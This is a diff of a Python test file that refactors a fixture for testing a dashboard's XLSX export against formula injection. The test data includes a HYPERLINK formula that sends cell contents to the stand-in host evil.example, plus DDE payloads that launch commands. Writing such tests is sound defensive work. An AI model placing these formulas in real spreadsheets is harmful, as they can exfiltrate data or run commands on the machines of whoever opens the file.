@@ -9,15 +9,13 @@ import zipfile
 from collections.abc import AsyncIterator
 
 import pytest
-from aiohttp.test_utils import TestClient, TestServer
+from aiohttp.test_utils import TestClient
 from openpyxl import load_workbook
 
-from issues.db import Database
 from issues.service import IssueService
-from issues.settings import load_settings
 from issues.views import PersonRef
 from nlp.types import Detection
-from web.app import make_app
+from tests.security.conftest import dashboard_as
 
 OWNER = PersonRef(1, "王网格", "wang_wangge")
 CHAT = -100
@@ -26,24 +24,17 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我看详情")', "+1+cmd|'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
-@pytest.fixture
-async def admin(db_url: str) -> AsyncIterator[TestClient]:
-    settings = load_settings(overrides={"database_url": db_url},
-                             env={"SUQIU_DASHBOARD_ADMIN_TOKEN": "admin-secret"})
-    db = Database(db_url)
-    svc = IssueService(db, settings)
+async def _hostile(svc: IssueService) -> None:
     await svc.register_group(CHAT, "=cmd|' /C calc'!A0", OWNER, [OWNER])
     for n, text in enumerate(HOSTILE, start=1):
         await svc.intake(CHAT, n, PersonRef(100 + n, text[:30]), text,
                          Detection(True, "noise", 0.9, False, text[:10], text[:20]))
-    client = TestClient(TestServer(make_app(settings, svc)))
-    await client.start_server()
-    await client.post("/login", data={"token": "admin-secret", "next": "/"})
-    try:
+
+
+@pytest.fixture
+async def admin(db_url: str) -> AsyncIterator[TestClient]:
+    async with dashboard_as(db_url, _hostile) as client:
         yield client
-    finally:
-        await client.close()
-        await db.dispose()
 
 
 async def test_xlsx_cells_are_strings_never_formulas(admin: TestClient) -> None:
